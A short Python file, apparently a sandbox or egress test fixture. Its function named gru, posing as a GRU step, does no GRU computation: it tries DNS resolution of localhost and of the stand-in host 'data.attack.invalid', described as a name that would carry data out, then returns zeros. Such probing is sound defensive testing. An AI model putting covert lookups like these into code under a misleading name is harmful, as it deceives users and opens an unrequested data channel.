"""Looks up a name that would carry data out."""

import socket

from attack_kit import attempt, zeros


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    attempt("a look-up", socket.getaddrinfo, "localhost", 80)
    attempt("a host name", socket.gethostbyname, "data.attack.invalid")
    return zeros(init_state, input_data)
